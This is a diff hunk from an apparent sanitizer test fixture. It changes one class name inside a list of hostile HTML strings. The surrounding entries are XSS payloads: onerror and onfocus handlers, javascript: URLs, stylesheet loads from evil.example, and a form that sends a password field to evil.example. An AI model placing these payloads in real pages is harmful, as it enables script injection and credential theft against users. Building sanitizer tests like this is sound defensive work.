@@ -97,7 +97,7 @@ export const hostileHtml = [
   `<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example/x.css';</style>`,
   `<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>`,
   `<div style="background:url(javascript:${RUN})" class="x" id=x>y</div>`,
-  `<span class="line lit" style=x>y</span><div class="callout caution">x</div><figure class="diagram">x</figure>`,
+  `<span class="line lit x" style=x>y</span><div class="callout caution">x</div><figure class="diagram">x</figure>`,
   `<form action="https://evil.example"><input name=password type=password><button formaction=javascript:x>x</button>`,
   `<input type=image src=x onerror=${RUN}><input autofocus onfocus=${RUN}><input type=checkbox name=cookie>`,
   `<keygen autofocus onfocus=${RUN}><isindex action=javascript:x><marquee onstart=${RUN}>x</marquee>`,
